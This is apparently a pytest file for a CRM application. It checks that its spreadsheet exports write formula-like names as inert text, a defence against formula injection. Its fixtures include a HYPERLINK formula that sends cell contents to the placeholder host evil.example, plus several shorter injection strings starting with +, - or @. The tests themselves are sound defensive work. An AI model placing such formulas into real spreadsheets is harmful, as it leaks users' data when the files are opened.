"""Every .xlsx the app writes goes through crm.spreadsheets, which writes would-be formulas as text
(issue 14 #14): the circulation notice, the referral list export and the rejected import rows."""
from __future__ import annotations

import io
import pathlib
import re

from openpyxl import load_workbook

from crm.spreadsheets import FORMULA_STARTS
from tests.imports.helpers import write_xlsx
from tests.imports.test_import_rules import row
from tests.referrals.test_referral_pages import make_list

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
CRM = pathlib.Path(__file__).resolve().parents[2] / "crm"


def _cells(data: bytes) -> list[tuple[str, object, str]]:
    book = load_workbook(io.BytesIO(data))
    return [(sheet.title, cell.value, cell.data_type) for sheet in book.worksheets for r in sheet.iter_rows()
            for cell in r if cell.value is not None]


def assert_no_formula(data: bytes, expected_text: str) -> None:
    cells = _cells(data)
    live = [c for c in cells if c[2] == "f" or (isinstance(c[1], str) and c[1].startswith(FORMULA_STARTS))]
    assert not live, live
    assert any(isinstance(v, str) and expected_text in v for _s, v, _t in cells)  # the text is there, as text


def test_no_module_but_the_one_writer_builds_an_xlsx_or_writes_csv():
    builders = re.compile(r"from openpyxl import [^\n]*\bWorkbook\b|openpyxl\.Workbook\b|csv\.(writer|DictWriter)")
    offenders = [str(p.relative_to(CRM)) for p in CRM.rglob("*.py")
                 if p.name != "spreadsheets.py" and builders.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_the_circulation_notice_writes_hostile_names_as_text(world, login, db):
    world.campaign.name = HOSTILE
    world.pairs[0].name = "+1+1"
    world.counties[0].name = "@SUM(1)"
    db.session.commit()
    response = login(world.users["admin"]).get(f"/reports/notice.xlsx?campaign={world.campaign.id}")
    assert response.status_code == 200
    assert_no_formula(response.data, HOSTILE)
    assert "'+1+1" in [v for _s, v, _t in _cells(response.data)]


def test_the_referral_export_writes_hostile_names_as_text(world, login, db):
    world.merchants["m_a1"].name = HOSTILE
    world.merchants["m_a1"].operator_name = "-1+2"
    db.session.commit()
    referral_list = make_list(world, [world.merchants["m_a1"]])
    response = login(world.users["lead"]).post(f"/referrals/{referral_list.id}/export", follow_redirects=True)
    assert response.status_code == 200
    assert_no_formula(response.data, HOSTILE)


def test_the_rejected_rows_of_an_import_are_written_as_text(world, login, tmp_path):
    # (openpyxl would store a leading "=" as a formula in the uploaded file itself, so the other starts)
    path = write_xlsx(tmp_path / "名录.xlsx", [row(1, name="@SUM(A1:A9)", county="火星县", operator="+1+1")])
    client = login(world.users["liaison_a1"])
    with open(path, "rb") as handle:
        uploaded = client.post("/imports/", data={"file": (handle, "名录.xlsx")}, content_type="multipart/form-data")
    response = client.get(uploaded.headers["Location"] + "/rejected.xlsx")
    assert response.status_code == 200
    assert_no_formula(response.data, "@SUM(A1:A9)")
